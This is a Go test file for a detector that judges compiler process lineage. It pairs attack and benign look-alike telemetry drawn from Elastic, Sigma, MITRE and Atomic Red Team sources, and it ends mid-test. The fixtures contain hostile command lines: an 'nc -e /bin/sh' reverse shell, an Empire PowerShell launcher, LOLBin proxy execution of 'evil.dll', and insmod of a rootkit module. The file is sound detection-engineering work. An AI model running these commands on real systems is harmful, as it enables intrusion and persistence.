package compilelineage

import (
	"slices"
	"strings"
	"testing"
)

// ruleCase is one named rule's paired test, the way Sigma and tracee signatures are tested:
// the positive scenario must fire the rule on the compile run by `compiler`, the negative
// (the nearest benign look-alike) must not.
type ruleCase struct {
	rule     string // reason code, or link/scratch/quiet evidence code
	source   string // where the positive scenario comes from
	compiler string // base name of the compiler whose lineage is judged
	negName  string // in the negative scenario, when it differs
	pos, neg Events
}

const (
	windowsSystem32 = `C:\Windows\System32\`
	fw32            = `C:\Windows\Microsoft.NET\Framework\v4.0.30319\`
	tmpWin          = `C:\Users\u\AppData\Local\Temp\`
	w3wp            = `C:\Windows\System32\inetsrv\w3wp.exe`
	aspTmp          = `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\5d1b\a2c3\`
	vsCSC           = `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\Roslyn\csc.exe`
	devenv          = `C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\devenv.exe`
	vsMSB           = `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\MSBuild.exe`
)

func winEv(procs []Proc, files []FileEvent, conns []Conn) Events {
	return Events{Platform: "windows", Procs: procs, Files: files, Conns: conns}
}

func nixEv(platform string, procs []Proc, files []FileEvent, conns []Conn) Events {
	return Events{Platform: platform, Procs: procs, Files: files, Conns: conns}
}

func withUser(p Proc, u string) Proc { p.User = u; return p }
func withOrig(p Proc, o string) Proc { p.OriginalName = o; return p }
func withCwd(p Proc, d string) Proc  { p.Cwd = d; return p }

// cscChain is parent -> csc writing out, for reasons that depend on the parent alone.
func cscChain(parentPath, parentCmd, out string) Events {
	return winEv([]Proc{
		win("{p}", "", 0, parentPath, parentCmd),
		win("{c}", "{p}", 1, fw+"csc.exe", fw+`csc.exe /out:`+out+` C:\src\a.cs`),
	}, []FileEvent{{ProcKey: "{c}", Path: out, Time: at(2)}}, nil)
}

// shellChain is top -> cmd /c -> compiler (Office and web servers start compilers through a shell).
func shellChain(top, topCmd, compiler, cmd string) Events {
	return winEv([]Proc{
		win("{t}", "", 0, top, topCmd),
		win("{s}", "{t}", 1, windowsSystem32+"cmd.exe", "cmd.exe /c "+cmd),
		win("{c}", "{s}", 2, compiler, cmd),
	}, nil, nil)
}

// gccChain is parent -> gcc -o out src, with the write, as Linux audit sees it.
func gccChain(parentPath, parentCmd, src, out string) Events {
	return nixEv("linux", []Proc{
		nix(100, 1, 0, parentPath, parentCmd, "/home/u"),
		nix(101, 100, 1, "/usr/bin/gcc", "gcc -o "+out+" "+src, "/home/u"),
	}, []FileEvent{{PID: 101, Path: out, Time: at(2)}}, nil)
}

// bashGcc is bash -> gcc -o out /home/u/x.c.
func bashGcc(out string) Events { return gccChain("/bin/bash", "bash", "/home/u/x.c", out) }

// artifactThen is a csc compile of out under cmd, then later (the proxy, the loader).
func artifactThen(out string, later ...Proc) Events {
	ev := cscChain(windowsSystem32+"cmd.exe", "cmd.exe", out)
	ev.Procs = append(ev.Procs, later...)
	return ev
}

// linuxArtifactThen is a gcc compile of out from bash, then later.
func linuxArtifactThen(out string, later ...Proc) Events {
	ev := bashGcc(out)
	ev.Procs = append(ev.Procs, later...)
	return ev
}

// aspNetPage is w3wp compiling a page with the site's bin\roslyn\csc.exe into Temporary
// ASP.NET Files; page, when set, is an .aspx the same w3wp wrote just before.
func aspNetPage(page string, followup bool) Events {
	procs := []Proc{
		win("{w}", "", 0, w3wp, "w3wp.exe -ap DefaultAppPool"),
		win("{c}", "{w}", 100, `C:\inetpub\wwwroot\site\bin\roslyn\csc.exe`,
			`"C:\inetpub\wwwroot\site\bin\roslyn\csc.exe" /t:library /utf8output /nostdlib+ /noconfig @"`+aspTmp+`x1y2z3.cmdline"`),
	}
	if followup {
		procs = append(procs, win("{k}", "{w}", 101, windowsSystem32+"cmd.exe", "cmd.exe /c whoami"))
	}
	files := []FileEvent{{ProcKey: "{c}", Path: aspTmp + "App_Web_x1y2z3.dll", Time: at(101)}}
	if page != "" {
		files = append(files, FileEvent{ProcKey: "{w}", Path: page, Time: at(60)})
	}
	return winEv(procs, files, nil)
}

func ruleCases() []ruleCase {
	tmpOut := tmpWin + "a.exe"
	dll := `C:\Users\Public\evil.dll`
	return []ruleCase{
		{rule: "parent_elastic_list", source: "Elastic Suspicious .NET Code Compilation (mshta parent)", compiler: "csc.exe",
			pos: cscChain(windowsSystem32+"mshta.exe", "mshta.exe a.hta", `C:\src\a.exe`),
			neg: cscChain(windowsSystem32+"cmd.exe", "cmd.exe", `C:\src\a.exe`)},
		{rule: "parent_office", source: "Elastic MSBuild Started by an Office Application", compiler: "msbuild.exe",
			pos: shellChain(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "WINWORD.EXE", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`),
			neg: shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`)},
		{rule: "parent_web_server", source: "Elastic Suspicious Web Server Child Process; php-fpm8.2 as Debian 12 names it", compiler: "gcc",
			pos: gccChain("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "/var/tmp/x.c", "/var/tmp/x"),
			neg: gccChain("/usr/bin/make", "make", "/var/tmp/x.c", "/var/tmp/x")},
		{rule: "parent_web_server", source: "web-server user (www-data) whose worker is older than the buffer", compiler: "gcc",
			pos: nixEv("linux", []Proc{withUser(nix(101, 77, 1, "/usr/bin/gcc", "gcc -o /tmp/k /tmp/k.c", "/tmp"), "www-data")}, nil, nil),
			neg: nixEv("linux", []Proc{withUser(nix(101, 77, 1, "/usr/bin/gcc", "gcc -o /tmp/k /tmp/k.c", "/tmp"), "dev")}, nil, nil)},
		{rule: "parent_encoded_powershell", source: "Empire launcher (powershell -noP -sta -w 1 -enc)", compiler: "csc.exe",
			pos: cscChain(ps, "powershell.exe -noP -sta -w 1 -enc SQBmACgA", `C:\src\a.exe`),
			neg: cscChain(ps, `powershell.exe -File C:\src\build.ps1`, `C:\src\a.exe`)},
		{rule: "parent_remote_admin", source: "OTRF empire_msbuild_inline_task_via_wmi (wmiprvse > cmd > msbuild)", compiler: "msbuild.exe",
			pos: shellChain(windowsSystem32+`wbem\WmiPrvSE.exe`, "WmiPrvSE.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`),
			neg: shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`)},
		{rule: "user_space_parent_non_dev", source: "MITRE AN1381", compiler: "csc.exe",
			pos: cscChain(windowsSystem32+"cmd.exe", "cmd.exe", `C:\src\a.exe`),
			neg: winEv([]Proc{win("{d}", "", 0, devenv, "devenv.exe"), win("{b}", "{d}", 1, vsMSB, "MSBuild.exe /nodemode:1"),
				win("{c}", "{b}", 2, vsCSC, `csc.exe /out:C:\src\a.exe C:\src\a.cs`)}, nil, nil)},
		{rule: "temp_output", source: "MITRE AN1382 (compile into /tmp)", compiler: "gcc",
			pos: bashGcc("/tmp/x"),
			neg: bashGcc("/home/u/x")},
		{rule: "temp_source", source: "Sigma Dynamic .NET Compilation Via Csc.EXE", compiler: "gcc",
			pos: gccChain("/bin/bash", "bash", "/dev/shm/x.c", "/home/u/x"),
			neg: bashGcc("/home/u/x")},
		{rule: "hidden_path", source: "Sandfly: Linux malware in hidden folders (~/.config/.x)", compiler: "gcc",
			pos: bashGcc("/home/u/.config/.x/kworker"),
			neg: bashGcc("/home/u/.cargo/bin/tool")},
		{rule: "web_root_output", source: "CISA AA22-264A (implants beside served content)", compiler: "gcc",
			pos: bashGcc("/var/www/html/uploads/x"),
			neg: bashGcc("/home/u/x")},
		{rule: "cmdline_tempfile", source: "Splunk CSC Net On The Fly Compilation", compiler: "csc.exe",
			pos: winEv([]Proc{win("{p}", "", 0, ps, "powershell.exe"), win("{c}", "{p}", 1, fw+"csc.exe", `csc.exe /noconfig @"`+tmpWin+`ab.cmdline"`)}, nil, nil),
			neg: winEv([]Proc{win("{p}", "", 0, ps, "powershell.exe"), win("{c}", "{p}", 1, fw+"csc.exe", `csc.exe /noconfig @"C:\src\ab.rsp"`)}, nil, nil)},
		{rule: "renamed_compiler", source: "Elastic MSBuild Using an Alternate Name", compiler: "notepad.exe",
			pos:     winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"), withOrig(win("{c}", "{p}", 1, `C:\Users\Public\notepad.exe`, `notepad.exe C:\Users\Public\x.xml`), "MSBuild.exe")}, nil, nil),
			negName: "msbuild.exe",
			neg:     winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"), withOrig(win("{c}", "{p}", 1, `C:\Users\Public\msbuild.exe`, `msbuild.exe C:\Users\Public\x.xml`), "MSBuild.exe")}, nil, nil)},
		{rule: "unusual_compiler_path", source: "Splunk Suspicious msbuild path", compiler: "csc.exe",
			pos: cscChain(windowsSystem32+"cmd.exe", "cmd.exe", `C:\src\a.exe`).withCompilerPath(`C:\Users\Public\csc.exe`),
			neg: cscChain(windowsSystem32+"cmd.exe", "cmd.exe", `C:\src\a.exe`)},
		{rule: "single_argument", source: "Elastic Endpoint (hollowed .NET tools)", compiler: "csc.exe",
			pos: winEv([]Proc{win("{p}", "", 0, `C:\Users\u\x.exe`, "x.exe"), win("{c}", "{p}", 1, fw+"csc.exe", "csc.exe")}, nil, nil),
			neg: cscChain(`C:\Users\u\x.exe`, "x.exe", `C:\src\a.exe`)},
		{rule: "msbuild_inline_project", source: "LOLBAS MSBuild (inline task in an .xml)", compiler: "msbuild.exe",
			pos: shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\pshell.xml`),
			neg: shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\src\app.csproj`)},
		{rule: "network_tool_ancestry", source: "reverse shell through nc.traditional (Debian's netcat-traditional)", compiler: "gcc",
			pos: nixEv("linux", []Proc{nix(90, 1, 0, "/bin/nc.traditional", "nc -e /bin/sh 203.0.113.5 4444", "/"),
				nix(100, 90, 0.5, "/bin/sh", "sh", "/tmp"), nix(101, 100, 1, "/usr/bin/gcc", "gcc -o /home/u/x /home/u/x.c", "/tmp")}, nil, nil),
			neg: nixEv("linux", []Proc{nix(90, 1, 0, "/usr/sbin/sshd", "sshd: u", "/"),
				nix(100, 90, 0.5, "/bin/bash", "bash", "/tmp"), nix(101, 100, 1, "/usr/bin/gcc", "gcc -o /home/u/x /home/u/x.c", "/tmp")}, nil, nil)},
		{rule: "compiler_network", source: "Elastic MsBuild Making Network Connections", compiler: "msbuild.exe",
			pos: connect(shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`), "{c}", 4444),
			neg: shellChain(`C:\Windows\explorer.exe`, "explorer.exe", fw+"msbuild.exe", `msbuild.exe C:\Users\Public\x.xml`)},
		{rule: "not_a_compile", source: "evtx-attack-samples vbc.exe /stext (hollowed stealer)", compiler: "vbc.exe",
			pos: winEv([]Proc{win("{p}", "", 0, `C:\Users\u\a.exe`, "a.exe"), win("{c}", "{p}", 1, fw+"vbc.exe", `vbc.exe /stext "C:\Users\u\t.tmp"`)}, nil, nil),
			neg: winEv([]Proc{win("{p}", "", 0, `C:\Users\u\a.exe`, "a.exe"), win("{c}", "{p}", 1, fw+"vbc.exe", `vbc.exe /out:C:\src\a.exe C:\src\a.vb`)}, nil, nil)},
		{rule: "web_page_written_by_server", source: "Microsoft: web shell attacks (w3wp writes an .aspx, then compiles it)", compiler: "csc.exe",
			pos: aspNetPage(`C:\inetpub\wwwroot\site\help.aspx`, false),
			neg: aspNetPage("", false)},

		// Link rules.
		{rule: "exec:path", source: "MITRE AN1381", compiler: "csc.exe",
			pos: artifactThen(tmpOut, win("{x}", "{e}", 5, tmpOut, "a.exe")),
			neg: artifactThen(tmpOut, win("{x}", "{e}", 5, `C:\Program Files\a\a.exe`, "a.exe"))},
		{rule: "exec:bundle", source: "Red Canary Atomic T1059.002: osacompile -o x.app then open x.app", compiler: "osacompile",
			pos: osaApp("/Users/u/Library/Caches/x.app/Contents/MacOS/applet"),
			neg: osaApp("/Applications/x.app/Contents/MacOS/applet")},
		{rule: "exec:image_load", source: "Sysmon event 7 of a freshly compiled DLL", compiler: "csc.exe",
			pos: withLoad(artifactThen(dll), dll), neg: withLoad(artifactThen(dll), `C:\Windows\System32\kernel32.dll`)},
		{rule: "net:build_tool_fetch", source: "go build downloading modules from proxy.golang.org", compiler: "go",
			pos: goBuildConn(443), neg: goBuildConn(4444)},
		{rule: "compiler_network", source: "go build connecting to a non-web port is the compiler's own", compiler: "go",
			pos: goBuildConn(4444), neg: goBuildConn(443)},
		{rule: "quiet:aspnet_recycle", source: "ASP.NET recompiling pages after an app-pool recycle (Microsoft Learn)", compiler: "csc.exe",
			pos: aspNetPage("", false), neg: aspNetPage("", true)},

		// Artifacts run by another program (LOLBAS, ART T1218.*).
		{rule: "exec:proxy:rundll32", source: "ART T1218.011 rundll32 of a DLL", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"rundll32.exe", `rundll32.exe C:\Users\Public\evil.dll,Start`)),
			neg: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"rundll32.exe", `rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL`))},
		{rule: "exec:proxy:regsvr32", source: "ART T1218.010 regsvr32 /s", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"regsvr32.exe", `regsvr32.exe /s C:\Users\Public\evil.dll`)),
			neg: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"regsvr32.exe", `regsvr32.exe /s C:\Windows\System32\msxml3.dll`))},
		{rule: "exec:proxy:regasm", source: "ART T1218.009 (regasm /U T1121.dll from the working folder)", compiler: "csc.exe",
			pos: artifactThen(dll, withCwd(win("{x}", "", 5, fw32+"RegAsm.exe", `regasm.exe /U evil.dll`), `C:\Users\Public\`)),
			neg: artifactThen(dll, withCwd(win("{x}", "", 5, fw32+"RegAsm.exe", `regasm.exe /U evil.dll`), `C:\src\`))},
		{rule: "exec:proxy:regsvcs", source: "ART T1218.009 regsvcs", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, fw32+"RegSvcs.exe", `regsvcs.exe C:\Users\Public\evil.dll`)),
			neg: artifactThen(dll, win("{x}", "", -30, fw32+"RegSvcs.exe", `regsvcs.exe C:\Users\Public\evil.dll`))}, // before the compile
		{rule: "exec:proxy:installutil", source: "ART T1218.004 InstallUtil /logfile= /LogToConsole=false /U", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, fw32+"InstallUtil.exe", `InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\evil.dll`)),
			neg: artifactThen(dll, win("{x}", "", 5, fw32+"InstallUtil.exe", `InstallUtil.exe /logfile= /U C:\Program Files\svc\svc.exe`))},
		{rule: "exec:proxy:msiexec", source: "LOLBAS Msiexec /y (DllRegisterServer)", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"msiexec.exe", `msiexec.exe /y C:\Users\Public\evil.dll`)),
			neg: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"msiexec.exe", `msiexec.exe /i C:\src\setup.msi /qn`))},
		{rule: "exec:proxy:odbcconf", source: "ART T1218.008 odbcconf /a {REGSVR ...}", compiler: "csc.exe",
			pos: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"odbcconf.exe", `odbcconf.exe /a {REGSVR C:\Users\Public\evil.dll}`)),
			neg: artifactThen(dll, win("{x}", "", 5, windowsSystem32+"odbcconf.exe", `odbcconf.exe /a {REGSVR C:\Windows\System32\odbcbcp.dll}`))},
		{rule: "exec:proxy:ld_so", source: "noexec /dev/shm bypass: /lib64/ld-linux-x86-64.so.2 ./x (GTFOBins ld.so)", compiler: "gcc",
			pos: linuxArtifactThen("/dev/shm/x", nix(200, 100, 5, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 ./x", "/dev/shm")),
			neg: linuxArtifactThen("/dev/shm/x", nix(200, 100, 5, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/x", "/dev/shm"))},
		{rule: "exec:proxy:insmod", source: "ART T1547.006 (make a module, insmod it)", compiler: "gcc",
			pos: linuxArtifactThen("/tmp/rk/rk.ko", nix(200, 100, 5, "/usr/sbin/insmod", "insmod /tmp/rk/rk.ko", "/tmp")),
			neg: linuxArtifactThen("/tmp/rk/rk.ko", nix(200, 100, 5, "/usr/sbin/insmod", "insmod /lib/modules/6.1.0/extra/vboxdrv.ko", "/tmp"))},
		{rule: "exec:proxy:modprobe", source: "ART T1547.006 modprobe of the built module", compiler: "gcc",
			pos: linuxArtifactThen("/tmp/rk/rk.ko", nix(200, 100, 5, "/usr/sbin/modprobe", "modprobe rk", "/tmp")),
			neg: linuxArtifactThen("/tmp/rk/rk.ko", nix(200, 100, 5, "/usr/sbin/modprobe", "modprobe nf_tables", "/tmp"))},
		{rule: "exec:proxy:open", source: "Red Canary Atomic T1059.002 (open the osacompile applet)", compiler: "osacompile",
			pos: osaApp("", Proc{Key: "o", PID: 300, PPID: 100, Path: "/usr/bin/open", Cmdline: "open /Users/u/Library/Caches/x.app", Time: at(5)}),
			neg: osaApp("", Proc{Key: "o", PID: 300, PPID: 100, Path: "/usr/bin/open", Cmdline: "open /Applications/Safari.app", Time: at(5)})},

		// Shared compilation: Roslyn's long-lived VBCSCompiler server writes a build's obj\ outputs.
		{rule: "write:shared_compiler:vbcscompiler", source: "Roslyn Compiler Server.md: the Csc task dispatches to VBCSCompiler.exe", compiler: "dotnet.exe",
			pos: sharedEv([]Proc{vbcsServer(), dotnetBuild("{b}", 1, `C:\src\app`, "")}, serverWrite(appObj, 3)),
			neg: sharedEv([]Proc{vbcsServer(), dotnetBuild("{b}", 1, `C:\src\app`, "")}, serverWrite(libObj, 3))},

		// Build tools' own scratch paths.
		{rule: "scratch:msbuild_rsp", source: "MSBuild ToolTask response file in %TEMP% (dotnet/msbuild ToolTask.cs)", compiler: "csc.exe",
			pos: msbuildRsp(vsMSB), neg: msbuildRsp(windowsSystem32 + "cmd.exe")},
		{rule: "scratch:pip_build", source: "pip building a C extension (pip/_internal/utils/temp_dir.py kinds)", compiler: "x86_64-linux-gnu-gcc",
			pos: pipBuild("/usr/bin/python3.11", "/usr/bin/python3.11 -m pip install psutil"), neg: pipBuild("/bin/bash", "bash")},
		{rule: "scratch:cargo_build", source: "cargo install (builds in /tmp/cargo-install*)", compiler: "cc",
			pos: cargoBuild("/home/u/.cargo/bin/cargo"), neg: cargoBuild("/bin/sh")},
		{rule: "scratch:go_build", source: "go run links into $WORK=/tmp/go-build* (cmd/go)", compiler: "go", negName: "gcc",
			pos: goRun(true), neg: goRun(false)},
	}
}

func (ev Events) withCompilerPath(p string) Events {
	for i := range ev.Procs {
		if ev.Procs[i].Key == "{c}" {
			ev.Procs[i].Path = p
			ev.Procs[i].Cmdline = strings.Replace(ev.Procs[i].Cmdline, fw+"csc.exe", p, 1)
		}
	}
	return ev
}

func connect(ev Events, key string, port int64) Events {
	ev.Conns = append(ev.Conns, Conn{ProcKey: key, Remote: "203.0.113.9", Port: port, Time: at(4)})
	return ev
}

func withLoad(ev Events, path string) Events {
	ev.Loads = append(ev.Loads, ImageLoad{ProcKey: "{l}", PID: 900, Image: windowsSystem32 + "rundll32.exe", Path: path, Time: at(6), Source: "sysmon"})
	return ev
}

// osaApp is osacompile building an applet bundle from a script in Downloads (es_process_events).
func osaApp(run string, later ...Proc) Events {
	procs := []Proc{
		{Key: "z", PID: 100, PPID: 1, Path: "/bin/zsh", Cmdline: "zsh", Time: at(0), Source: "es_process_events"},
		{Key: "c", PID: 101, PPID: 100, Path: "/usr/bin/osacompile", Cmdline: "osacompile -o /Users/u/Library/Caches/x.app /Users/u/Downloads/x.applescript",
			Cwd: "/Users/u", Time: at(1), Source: "es_process_events"},
	}
	if run != "" {
		procs = append(procs, Proc{Key: "r", PID: 301, PPID: 1, Path: run, Cmdline: run, Time: at(6), Source: "es_process_events"})
	}
	procs = append(procs, later...)
	return nixEv("darwin", procs, []FileEvent{{PID: 101, Path: "/Users/u/Library/Caches/x.app", Time: at(2)}}, nil)
}

func goBuildConn(port int64) Events {
	return nixEv("linux", []Proc{
		nix(100, 1, 0, "/bin/bash", "bash", "/home/u/src/app"),
		nix(101, 100, 1, "/usr/local/go/bin/go", "go build -o /home/u/bin/app .", "/home/u/src/app"),
	}, nil, []Conn{{PID: 101, Remote: "142.250.1.1", Port: port, Time: at(2)}})
}

func msbuildRsp(parent string) Events {
	rsp := `C:\Users\u\AppData\Local\Temp\MSBuildTempu\tmp8f2a6c1d0b3e4f5a9c7d.rsp`
	return winEv([]Proc{
		win("{p}", "", 0, parent, "x"),
		win("{c}", "{p}", 1, vsCSC, `csc.exe /noconfig @`+rsp),
	}, nil, nil)
}

func pipBuild(parent, cmd string) Events {
	src := "/tmp/pip-install-k2j4_x9q/psutil_1a2b/psutil/_psutil_linux.c"
	obj := "/tmp/pip-install-k2j4_x9q/psutil_1a2b/build/temp.linux-x86_64-cpython-311/psutil/_psutil_linux.o"
	return nixEv("linux", []Proc{
		nix(100, 1, 0, parent, cmd, "/tmp/pip-install-k2j4_x9q/psutil_1a2b"),
		nix(101, 100, 1, "/usr/bin/x86_64-linux-gnu-gcc", "x86_64-linux-gnu-gcc -fPIC -c "+src+" -o "+obj, "/tmp/pip-install-k2j4_x9q/psutil_1a2b"),
	}, nil, nil)
}

func cargoBuild(parent string) Events {
	out := "/tmp/cargo-installAbC123/release/deps/ripgrep-1f2e3d"
	return nixEv("linux", []Proc{
		nix(100, 1, 0, parent, "cargo install ripgrep", "/home/u"),
		nix(101, 100, 1, "/usr/bin/cc", "cc -m64 /tmp/cargo-installAbC123/release/deps/ripgrep.o -o "+out, "/home/u"),
	}, []FileEvent{{PID: 101, Path: out, Time: at(2)}}, nil)
}

// goRun is `go run /home/u/src/main.go` (the linked binary lands in $WORK=/tmp/go-build*)
// against a shell writing into a look-alike folder.
func goRun(viaGo bool) Events {
	out := "/tmp/go-build3141592/b001/exe/main"
	if viaGo {
		return nixEv("linux", []Proc{
			nix(100, 1, 0, "/bin/bash", "bash", "/home/u/src"),
			nix(101, 100, 1, "/usr/local/go/bin/go", "go run /home/u/src/main.go", "/home/u/src"),
			nix(102, 101, 2, "/usr/local/go/pkg/tool/linux_amd64/link", "link -o "+out+" -importcfg x", "/home/u/src"),
		}, []FileEvent{{PID: 102, Path: out, Time: at(3)}}, nil)
	}
	return bashGcc(out)
}

// fired reports whether the rule fired on the lineage: a reason, or an evidence code.
func fired(l Lineage, rule string) bool {
	return slices.Contains(l.Reasons, rule) || slices.Contains(l.Evidence, rule)
}

func lineageOf(t *testing.T, ev Events, compiler string) Lineage {
	t.Helper()
	for _, l := range Correlate(&ev, Params{}) {
		if BaseName(l.Compiler.Path) == compiler {
			return l
		}
	}
	t.Fatalf("no lineage of %s in %v", compiler, Correlate(&ev, Params{}))
	return Lineage{}
}

func TestRulePairs(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.rule+"/"+tc.source, func(t *testing.T) {
			if l := lineageOf(t, tc.pos, tc.compiler); !fired(l, tc.rule) {
				t.Errorf("positive: %s did not fire: reasons %v evidence %v", tc.rule, l.Reasons, l.Evidence)
			}
			negName := tc.compiler
			if tc.negName != "" {
				negName = tc.negName
			}
			if l := lineageOf(t, tc.neg, negName); fired(l, tc.rule) {
				t.Errorf("negative: %s fired: reasons %v evidence %v", tc.rule, l.Reasons, l.Evidence)
			}
		})
	}
}

// TestEveryRuleIsPaired fails when a named rule has no paired test, or a test names no rule.
func TestEveryRuleIsPaired(t *testing.T) {
	tested := map[string]bool{}
	for _, tc := range ruleCases() {
		tested[tc.rule] = true
	}
	named := map[string]bool{}
	for _, r := range Rules() {
		named[r.Name] = true
		if r.Anchor == "" && r.Kind != RuleReason {
			t.Errorf("rule %s has no anchor", r.Name)
		}
		if !tested[r.Name] {
			t.Errorf("rule %s (%s) has no paired test", r.Name, r.Kind)
		}
	}
	for name := range tested {
		if !named[name] {
			t.Errorf("test of %s, which is no named rule", name)
		}
	}
}

// TestQuietRulesSilence checks what the quieting rules take away, beyond their evidence.
func TestQuietRulesSilence(t *testing.T) {
	tests := []struct {
		name, compiler string
		ev             Events
		absent         []string
		present        []string
	}{
		{"msbuild rsp is not temp_source", "csc.exe", msbuildRsp(vsMSB), []string{"temp_source"}, nil},
		{"rsp under a shell is temp_source", "csc.exe", msbuildRsp(windowsSystem32 + "cmd.exe"), nil, []string{"temp_source"}},
		{"pip build is not temp_source", "x86_64-linux-gnu-gcc", pipBuild("/usr/bin/python3.11", "python3.11 -m pip install psutil"), []string{"temp_source", "temp_output"}, nil},
		{"cargo install is not temp_output", "cc", cargoBuild("/home/u/.cargo/bin/cargo"), []string{"temp_output", "temp_source"}, nil},
		{"look-alike cargo dir from a shell is temp_output", "cc", cargoBuild("/bin/sh"), nil, []string{"temp_output"}},
		{"go run is not temp_output", "go", goRun(true), []string{"temp_output"}, nil},
		{"gcc into a look-alike go-build dir from a shell is temp_output", "gcc", goRun(false), nil, []string{"temp_output"}},
		{"ASP.NET recycle compile is clean", "csc.exe", aspNetPage("", false), []string{"parent_web_server", "cmdline_tempfile", "unusual_compiler_path"}, nil},
		{"ASP.NET page compile followed by cmd stays a web-server compile", "csc.exe", aspNetPage("", true), nil, []string{"parent_web_server"}},
		{"go module fetch is no connection", "go", goBuildConn(443), []string{"compiler_network"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkReasons(t, lineageOf(t, tt.ev, tt.compiler), tt.present, tt.absent)
		})
	}
	if l := lineageOf(t, goBuildConn(443), "go"); l.Connections != 0 || l.Stage == "network" {
		t.Errorf("go module fetch counted: %d connections, stage %s", l.Connections, l.Stage)
	}
	if l := lineageOf(t, aspNetPage("", false), "csc.exe"); len(l.Reasons) != 0 {
		t.Errorf("ASP.NET recycle compile: reasons %v, want none", l.Reasons)
	}
}

// TestTimingAndIdentity covers pid reuse, late pid-less writes, in-memory hosts and late runs.
func TestTimingAndIdentity(t *testing.T) {
	t.Run("pid reuse ends attribution by pid", func(t *testing.T) {
		// gcc (pid 101) exits; pid 101 is reused by curl, whose write and connection are not the compile's.
		ev := nixEv("linux", []Proc{
			nix(100, 1, 0, "/bin/bash", "bash", "/home/u"),
			nix(101, 100, 1, "/usr/bin/gcc", "gcc -c /home/u/x.c -o /home/u/x.o", "/home/u"),
			nix(101, 1, 20, "/usr/bin/curl", "curl -o /home/u/y http://x", "/"),
		}, []FileEvent{{PID: 101, Path: "/home/u/y", Time: at(21)}}, []Conn{{PID: 101, Remote: "198.51.100.2", Port: 80, Time: at(21)}})
		l := lineageOf(t, ev, "gcc")
		if l.Written || l.Connections != 0 || slices.Contains(l.Reasons, "compiler_network") {
			t.Errorf("reused pid attributed: written=%v connections=%d reasons=%v", l.Written, l.Connections, l.Reasons)
		}
	})
	t.Run("pid-less monitor logs the write after the run", func(t *testing.T) {
		// file_events under load: the artifact's write is logged 12 s after it already ran.
		ev := nixEv("linux", []Proc{
			nix(100, 1, 0, "/bin/bash", "bash", "/tmp"),
			nix(101, 100, 1, "/usr/bin/gcc", "gcc -o /tmp/k /tmp/k.c", "/tmp"),
			nix(102, 100, 3, "/tmp/k", "/tmp/k", "/tmp"),
		}, []FileEvent{{Path: "/tmp/k", Time: at(15), Source: "file_events"}}, nil)
		l := lineageOf(t, ev, "gcc")
		if !l.Written || l.Executions != 1 || !slices.Contains(l.Evidence, "write:path_time") {
			t.Errorf("written=%v executions=%d evidence=%v", l.Written, l.Executions, l.Evidence)
		}
		ev.Files[0].Source = "process_file_events"
		ev.Files[0].PID = 101
		if l := lineageOf(t, ev, "gcc"); l.Executions != 0 {
			t.Errorf("a pid-keyed write 12 s after the run still linked it (executions %d)", l.Executions)
		}
	})
	t.Run("in-memory host connects 25 minutes later", func(t *testing.T) {
		ev := winEv([]Proc{
			win("{p}", "", 0, ps, "powershell.exe -nop -w hidden"),
			win("{c}", "{p}", 10, fw+"csc.exe", fw+`csc.exe /noconfig /fullpaths @"`+tmpWin+`q\q.cmdline"`),
		}, nil, []Conn{{ProcKey: "{p}", Remote: "203.0.113.50", Port: 8443, Time: at(10 + 25*60)}})
		l := lineageOf(t, ev, "csc.exe")
		if l.Connections != 1 || l.ConnectionFrom != "parent" {
			t.Errorf("connections %d from %q, want 1 from parent", l.Connections, l.ConnectionFrom)
		}
		// A shell is no in-memory host: its connection 25 minutes later is not the compile's.
		ev.Procs[0].Path = windowsSystem32 + "cmd.exe"
		if l := lineageOf(t, ev, "csc.exe"); l.Connections != 0 {
			t.Errorf("cmd's connection 25 minutes later counted")
		}
	})
	t.Run("artifact started hours later", func(t *testing.T) {
		ev := artifactThen(tmpWin+"a.exe", win("{x}", "", 6*3600, tmpWin+"a.exe", "a.exe"))
		if l := lineageOf(t, ev, "csc.exe"); l.Executions != 1 || l.FirstExecTime != at(6*3600) {
			t.Errorf("executions %d first %v", l.Executions, l.FirstExecTime)
		}
	})
	t.Run("ancestry never starts with a placeholder", func(t *testing.T) {
		p := nix(101, 77, 1, "/usr/bin/gcc", "gcc -o /tmp/k /tmp/k.c", "/tmp")
		p.ParentPath = "-"
		l := lineageOf(t, nixEv("linux", []Proc{p}, nil, nil), "gcc")
